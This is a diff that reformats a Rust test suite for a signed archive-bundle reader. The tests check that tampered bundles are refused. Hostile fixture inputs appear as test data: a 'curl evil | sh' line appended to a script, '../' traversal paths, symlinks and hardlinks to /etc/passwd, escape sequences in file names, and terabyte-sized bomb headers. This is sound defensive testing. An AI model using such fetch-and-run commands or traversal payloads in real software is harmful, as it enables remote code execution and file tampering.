@@ -16,9 +16,7 @@ use airlock_format::minisign::{PublicKey, SecretKey};
 use airlock_format::parts::{part_path, BundleFiles};
 use airlock_format::read::{read_bundle, read_manifest, ReadOutcome, VerifyOnly};
 use airlock_format::report::Silent;
-use forge::{
-    flip_byte, flipped, header, noise, save, save_split, Forge, Tar, CHART, GIB, PROFILE, SCRIPT,
-};
+use forge::{flip_byte, flipped, header, noise, save, save_split, Forge, Tar, CHART, GIB, PROFILE, SCRIPT};
 use tar::EntryType;
 
 // ---------------------------------------------------------------------------------
@@ -85,10 +83,7 @@ fn read_bomb(f: &Forge, bytes: &[u8], names: &str, cause: &str) -> Error {
     let e = refused(result, ErrorKind::Corrupt, names);
     assert!(e.cause.contains(cause), "refused for another reason: {e}");
     assert!(took < FAST, "reading the bomb took {took:?}: {e}");
-    assert!(
-        largest < SMALL,
-        "reading the bomb allocated {largest} bytes at once: {e}"
-    );
+    assert!(largest < SMALL, "reading the bomb allocated {largest} bytes at once: {e}");
     e
 }
 
@@ -101,10 +96,7 @@ fn refused<T: std::fmt::Debug>(r: Result<T>, kind: ErrorKind, names: &str) -> Er
         eprintln!("[{kind:?}] {text}");
     }
     assert_eq!(e.kind, kind, "wrong kind for: {text}");
-    assert!(
-        text.contains(names),
-        "message does not name `{names}`: {text}"
-    );
+    assert!(text.contains(names), "message does not name `{names}`: {text}");
     assert!(text.contains("\n  hint: "), "no hint: {text}");
     e
 }
@@ -178,11 +170,7 @@ fn malformed_signature_entry_is_a_signature_error() {
     let f = Forge::standard();
     let sig = f.signature();
     let cases: [(Vec<u8>, &str); 3] = [
-        (
-            sig.replacen("trusted comment", "trusted c0mment", 1)
-                .into_bytes(),
-            SIGNATURE_PATH,
-        ),
+        (sig.replacen("trusted comment", "trusted c0mment", 1).into_bytes(), SIGNATURE_PATH),
         (sig.replace('A', "*").into_bytes(), SIGNATURE_PATH),
         (vec![0xff, 0xfe, 0x00, 0x80], SIGNATURE_PATH),
     ];
@@ -201,26 +189,11 @@ fn bundle_signed_by_an_untrusted_key_is_refused() {
     let other = SecretKey::generate().unwrap().public_key();
     let d = tempfile::tempdir().unwrap();
     let files = save(d.path(), "b.airlock", &f.good());
-    let e = refused(
-        read_files(&files, other),
-        ErrorKind::Signature,
-        MANIFEST_PATH,
-    );
-    assert!(
-        e.cause.contains(&f.public_key().key_id_hex()) && e.cause.contains(&other.key_id_hex()),
-        "{e}"
-    );
-    refused(
-        read_manifest(&files, Some(&[other])),
-        ErrorKind::Signature,
-        MANIFEST_PATH,
-    );
+    let e = refused(read_files(&files, other), ErrorKind::Signature, MANIFEST_PATH);
+    assert!(e.cause.contains(&f.public_key().key_id_hex()) && e.cause.contains(&other.key_id_hex()), "{e}");
+    refused(read_manifest(&files, Some(&[other])), ErrorKind::Signature, MANIFEST_PATH);
     // No trusted key at all fails closed too.
-    refused(
-        read_bundle(&files, &[], &mut VerifyOnly, &Silent),
-        ErrorKind::Signature,
-        MANIFEST_PATH,
-    );
+    refused(read_bundle(&files, &[], &mut VerifyOnly, &Silent), ErrorKind::Signature, MANIFEST_PATH);
 }
 
 #[test]
@@ -267,11 +240,7 @@ fn read_manifest_checks_the_signature_only_when_keys_are_given() {
     t.file(SIGNATURE_PATH, 0o644, f.signature().as_bytes());
     t.end();
     let files = save(d.path(), "b.airlock", &t.finish());
-    refused(
-        read_manifest(&files, Some(&[f.public_key()])),
-        ErrorKind::Signature,
-        MANIFEST_PATH,
-    );
+    refused(read_manifest(&files, Some(&[f.public_key()])), ErrorKind::Signature, MANIFEST_PATH);
     let (manifest, _, signer) = read_manifest(&files, None).unwrap();
     assert_eq!((manifest.name.as_str(), signer), ("Forged", None));
 }
@@ -286,17 +255,9 @@ fn mangled_manifest_is_corrupt_even_without_keys() {
     t.file(SIGNATURE_PATH, 0o644, f.sign(&m[..m.len() / 2]).as_bytes());
     t.end();
     let files = save(d.path(), "b.airlock", &t.finish());
-    refused(
-        read_manifest(&files, None),
-        ErrorKind::Corrupt,
-        MANIFEST_PATH,
-    );
+    refused(read_manifest(&files, None), ErrorKind::Corrupt, MANIFEST_PATH);
     // Signed garbage is still garbage.
-    refused(
-        read_files(&files, f.public_key()),
-        ErrorKind::Corrupt,
-        MANIFEST_PATH,
-    );
+    refused(read_files(&files, f.public_key()), ErrorKind::Corrupt, MANIFEST_PATH);
 }
 
 #[test]
@@ -314,19 +275,9 @@ fn signed_manifest_listing_an_unsafe_path_is_refused_as_unsafe() {
 fn manifest_entry_of_absurd_size_is_refused_before_reading() {
     let f = Forge::standard();
     let mut t = Tar::frame();
-    t.header(&header(
-        MANIFEST_PATH.as_bytes(),
-        EntryType::Regular,
-        0o644,
-        1 << 40,
-    ));
+    t.header(&header(MANIFEST_PATH.as_bytes(), EntryType::Regular, 0o644, 1 << 40));
     t.zeros(256 * GIB);
-    read_bomb(
-        &f,
-        &t.finish(),
-        MANIFEST_PATH,
-        "more than the 33554432 allowed",
-    );
+    read_bomb(&f, &t.finish(), MANIFEST_PATH, "more than the 33554432 allowed");
 }
 
 // ---------------------------------------------------------------------------------
@@ -345,11 +296,7 @@ fn empty_file_is_not_a_bundle() {
 #[test]
 fn random_bytes_are_not_a_bundle() {
     let f = Forge::standard();
-    refused(
-        read(&f, &noise(9, 100_000)),
-        ErrorKind::Corrupt,
-        "b.airlock",
-    );
+    refused(read(&f, &noise(9, 100_000)), ErrorKind::Corrupt, "b.airlock");
     refused(read(&f, b"x"), ErrorKind::Corrupt, "b.airlock");
 }
 
@@ -360,9 +307,7 @@ fn uncompressed_tar_or_foreign_archive_is_not_a_bundle() {
     let mut h = tar::Header::new_gnu();
     h.set_size(5);
     h.set_cksum();
-    plain
-        .append_data(&mut h, "hello.txt", &b"hello"[..])
-        .unwrap();
+    plain.append_data(&mut h, "hello.txt", &b"hello"[..]).unwrap();
     let plain = plain.into_inner().unwrap();
     refused(read(&f, &plain), ErrorKind::Corrupt, "b.airlock");
     // Compressed, but the first entry is not the manifest.
@@ -400,11 +345,7 @@ fn flipped_blob_and_chart_bytes_are_each_reported_and_reading_continues() {
 #[test]
 fn flipped_byte_in_a_small_file_names_it() {
     let f = Forge::standard();
-    let outcome = read(
-        &f,
-        &f.with_content(PROFILE, &flipped(&f.contents[PROFILE], 0)),
-    )
-    .unwrap();
+    let outcome = read(&f, &f.with_content(PROFILE, &flipped(&f.contents[PROFILE], 0))).unwrap();
     assert_eq!(outcome.mismatches.len(), 1);
     assert_eq!(outcome.mismatches[0].path, PROFILE);
 }
@@ -414,18 +355,10 @@ fn entry_longer_or_shorter_than_the_manifest_says_is_refused() {
     let f = Forge::standard();
     let mut longer = f.contents[SCRIPT].clone();
     longer.extend_from_slice(b"curl evil | sh\n");
-    let e = refused(
-        read(&f, &f.with_content(SCRIPT, &longer)),
-        ErrorKind::Corrupt,
-        SCRIPT,
-    );
+    let e = refused(read(&f, &f.with_content(SCRIPT, &longer)), ErrorKind::Corrupt, SCRIPT);
     assert!(e.cause.contains("the signed manifest says"), "{e}");
     let shorter = &f.contents[SCRIPT][..4];
-    refused(
-        read(&f, &f.with_content(SCRIPT, shorter)),
-        ErrorKind::Corrupt,
-        SCRIPT,
-    );
+    refused(read(&f, &f.with_content(SCRIPT, shorter)), ErrorKind::Corrupt, SCRIPT);
 }
 
 #[test]
@@ -433,12 +366,7 @@ fn huge_entry_in_place_of_a_listed_one_is_refused_before_reading() {
     let f = Forge::standard();
     let mut t = f.frame();
     f.entries(&mut t, ..f.index(SCRIPT));
-    t.header(&header(
-        SCRIPT.as_bytes(),
-        EntryType::Regular,
-        0o755,
-        1 << 40,
-    ));
+    t.header(&header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, 1 << 40));
     t.zeros(256 * GIB);
     read_bomb(&f, &t.finish(), SCRIPT, "the signed manifest says 23");
 }
@@ -452,11 +380,7 @@ fn entry_not_in_the_manifest_is_refused() {
         t.file("files/base/extra.sh", 0o644, b"#!/bin/sh\n");
         f.entries(&mut t, at..);
         t.end();
-        let e = refused(
-            read(&f, &t.finish()),
-            ErrorKind::Corrupt,
-            "files/base/extra.sh",
-        );
+        let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, "files/base/extra.sh");
         assert!(e.cause.contains("not in the signed manifest"), "{e}");
     }
 }
@@ -489,10 +413,7 @@ fn reordered_entries_are_refused() {
     f.entries(&mut t, 2..);
     t.end();
     let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, &paths[0]);
-    assert!(
-        e.cause.contains("out of order") && e.cause.contains(&paths[1]),
-        "{e}"
-    );
+    assert!(e.cause.contains("out of order") && e.cause.contains(&paths[1]), "{e}");
 }
 
 #[test]
@@ -524,12 +445,7 @@ fn truncated_bundle_is_corrupt_and_says_so() {
     // The tar stream stops in the middle of an entry, the zstd frame is whole.
     let mut t = f.tar();
     f.entries(&mut t, ..f.index(SCRIPT));
-    t.header(&header(
-        SCRIPT.as_bytes(),
-        EntryType::Regular,
-        0o755,
-        f.contents[SCRIPT].len() as u64,
-    ));
+    t.header(&header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, f.contents[SCRIPT].len() as u64));
     t.raw(&f.contents[SCRIPT][..5]);
     let e = refused(read(&f, &t.finish()), ErrorKind::Corrupt, SCRIPT);
     assert!(e.to_string().contains("truncated"), "{e}");
@@ -548,10 +464,7 @@ fn data_after_the_end_of_the_archive_is_refused() {
 #[test]
 fn directory_and_other_entry_types_are_refused() {
     let f = Forge::standard();
-    for (path, ty) in [
-        ("files/base/", EntryType::Directory),
-        ("files/base/x", EntryType::GNUSparse),
-    ] {
+    for (path, ty) in [("files/base/", EntryType::Directory), ("files/base/x", EntryType::GNUSparse)] {
         let mut t = f.tar();
         t.entry(path.as_bytes(), ty, 0o755, b"");
         f.entries(&mut t, ..);
@@ -564,12 +477,7 @@ fn directory_and_other_entry_types_are_refused() {
 fn owner_other_than_root_is_refused() {
     let f = Forge::standard();
     for (uid, gid) in [(1000, 0), (0, 1000)] {
-        let mut h = header(
-            SCRIPT.as_bytes(),
-            EntryType::Regular,
-            0o755,
-            f.contents[SCRIPT].len() as u64,
-        );
+        let mut h = header(SCRIPT.as_bytes(), EntryType::Regular, 0o755, f.contents[SCRIPT].len() as u64);
         h.set_uid(uid);
         h.set_gid(gid);
         h.set_cksum();
@@ -602,12 +510,7 @@ fn mode_other_than_the_manifest_says_is_refused() {
 fn dotdot_paths_are_refused_as_unsafe() {
     let f = Forge::standard();
     let deep = format!("files/{}../../../../escape", "d/".repeat(60));
-    for path in [
-        "../escape",
-        "files/../../escape",
-        "files/base/..",
-        deep.as_str(),
-    ] {
+    for path in ["../escape", "files/../../escape", "files/base/..", deep.as_str()] {
         let mut t = f.tar();
         t.entry(path.as_bytes(), EntryType::Regular, 0o644, b"pwned");
         f.entries(&mut t, ..);
@@ -661,12 +564,7 @@ fn control_characters_in_paths_and_link_targets_never_reach_the_terminal() {
     let mut plain = f.tar();
     plain.entry(evil.as_bytes(), EntryType::Regular, 0o644, b"x");
     let mut listed_name = f.tar();
-    listed_name.entry(
-        b"files/k3s/install.sh\x1b[2J",
-        EntryType::Regular,
-        0o755,
-        b"x",
-    );
+    listed_name.entry(b"files/k3s/install.sh\x1b[2J", EntryType::Regular, 0o755, b"x");
     let mut link = f.tar();
     link.link("files/base/l", EntryType::Symlink, "/etc/\u{1b}[2Jpasswd");
     for (mut t, kind, names) in [
@@ -677,10 +575,7 @@ fn control_characters_in_paths_and_link_targets_never_reach_the_terminal() {
         t.end();
         let e = refused(read(&f, &t.finish()), kind, names);
         let text = e.to_string();
-        assert!(
-            !text.contains('\u{1b}') && !text.contains('\u{7}') && text.lines().count() == 2,
-            "{text:?}"
-        );
+        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && text.lines().count() == 2, "{text:?}");
     }
 }
 
@@ -712,21 +607,14 @@ fn symlink_entry_is_refused_as_unsafe() {
         f.entries(&mut t, ..);
         t.end();
         let e = refused(read(&f, &t.finish()), ErrorKind::Unsafe, path);
-        assert!(
-            e.cause.contains("symbolic link") && e.cause.contains(target),
-            "{e}"
-        );
+        assert!(e.cause.contains("symbolic link") && e.cause.contains(target), "{e}");
     }
 }
 
 #[test]
 fn hardlink_entry_is_refused_as_unsafe() {
     let f = Forge::standard();
-    for (path, target) in [
-        ("files/base/passwd", "/etc/passwd"),
-        ("files/base/up", "../../x"),
-        (SCRIPT, CHART),
-    ] {
+    for (path, target) in [("files/base/passwd", "/etc/passwd"), ("files/base/up", "../../x"), (SCRIPT, CHART)] {
         let mut t = f.tar();
         t.link(path, EntryType::Link, target);
         f.entries(&mut t, ..);
@@ -739,11 +627,7 @@ fn hardlink_entry_is_refused_as_unsafe() {
 #[test]
 fn device_files_and_fifos_are_refused_as_unsafe() {
     let f = Forge::standard();
-    for (ty, what) in [
-        (EntryType::Char, "device"),
-        (EntryType::Block, "device"),
-        (EntryType::Fifo, "pipe"),
-    ] {
+    for (ty, what) in [(EntryType::Char, "device"), (EntryType::Block, "device"), (EntryType::Fifo, "pipe")] {
         let mut t = f.tar();
         f.entries(&mut t, ..1);
         t.special("files/base/dev", ty);
@@ -775,19 +659,9 @@ fn setuid_setgid_and_sticky_bits_are_refused_as_unsafe() {
 fn huge_entry_not_in_the_manifest_fails_fast() {
     let f = Forge::standard();
     let mut t = f.frame();
-    t.header(&header(
-        b"files/base/zeros",
-        EntryType::Regular,
-        0o644,
-        1 << 40,
-    ));
+    t.header(&header(b"files/base/zeros", EntryType::Regular, 0o644, 1 << 40));
     t.zeros(256 * GIB);
-    read_bomb(
-        &f,
-        &t.finish(),
-        "files/base/zeros",
-        "not in the signed manifest",
-    );
+    read_bomb(&f, &t.finish(), "files/base/zeros", "not in the signed manifest");
 }
 
 #[test]
@@ -805,43 +679,19 @@ fn gigantic_long_name_record_fails_fast() {
     let f = Forge::standard();
     // After the head, and as the very first entry.
     let mut after_head = f.frame();
-    after_head.header(&header(
-        b"././@LongLink",
-        EntryType::GNULongName,
-        0o644,
-        1 << 40,
-    ));
+    after_head.header(&header(b"././@LongLink", EntryType::GNULongName, 0o644, 1 << 40));
     after_head.fill(b'a', 256 * GIB);
     let mut first = Tar::frame();
-    first.header(&header(
-        b"././@LongLink",
-        EntryType::GNULongName,
-        0o644,
-        1 << 40,
-    ));
+    first.header(&header(b"././@LongLink", EntryType::GNULongName, 0o644, 1 << 40));
     first.fill(b'a', 256 * GIB);
-    read_bomb(
-        &f,
-        &after_head.finish(),
-        "b.airlock",
-        "long-name record of 1099511627776 bytes",
-    );
-    read_bomb(
-        &f,
-        &first.finish(),
-        "b.airlock",
-        "the first entry is not the bundle manifest",
-    );
+    read_bomb(&f, &after_head.finish(), "b.airlock", "long-name record of 1099511627776 bytes");
+    read_bomb(&f, &first.finish(), "b.airlock", "the first entry is not the bundle manifest");
 }
 
 #[test]
 fn huge_pax_or_long_link_record_fails_fast() {
     let f = Forge::standard();
-    for ty in [
-        EntryType::XHeader,
-        EntryType::XGlobalHeader,
-        EntryType::GNULongLink,
-    ] {
+    for ty in [EntryType::XHeader, EntryType::XGlobalHeader, EntryType::GNULongLink] {
         let mut t = f.frame();
         t.header(&header(b"files/base/x", ty, 0o644, 1 << 40));
         t.fill(b'a', 256 * GIB);
@@ -934,8 +784,7 @@ fn flipped_byte_in_a_stored_blob_is_reported_as_that_blob() {
     let layer = f.layer();
     let d = tempfile::tempdir().unwrap();
     let files = f.write(d.path(), "b.airlock", None);
-    let at = forge::find_in_file(&files.parts[0], &f.contents[&layer][5000..5064])
-        .expect("layer stored verbatim");
+    let at = forge::find_in_file(&files.parts[0], &f.contents[&layer][5000..5064]).expect("layer stored verbatim");
     flip_byte(&files.parts[0], at + 10);
     // The content check names the blob; the frame checksum then fails the stream.
     let mut tracker = Tracker::default();
@@ -953,12 +802,7 @@ struct Tracker {
 
 impl airlock_format::read::EntrySink for Tracker {
     fn finish(&mut self, e: &airlock_format::manifest::Entry, verified: bool) -> Result<()> {
-        if verified {
-            &mut self.good
-        } else {
-            &mut self.bad
-        }
-        .push(e.path.clone());
+        if verified { &mut self.good } else { &mut self.bad }.push(e.path.clone());
         Ok(())
     }
 }
@@ -969,11 +813,7 @@ fn missing_middle_part_is_named() {
     let d = tempfile::tempdir().unwrap();
     let files = split_bundle(&f, d.path());
     fs::remove_file(&files.parts[1]).unwrap();
-    let e = refused(
-        BundleFiles::locate(&files.base),
-        ErrorKind::Corrupt,
-        "b.airlock.part002",
-    );
+    let e = refused(BundleFiles::locate(&files.base), ErrorKind::Corrupt, "b.airlock.part002");
     assert!(e.cause.contains("missing"), "{e}");
 }
 
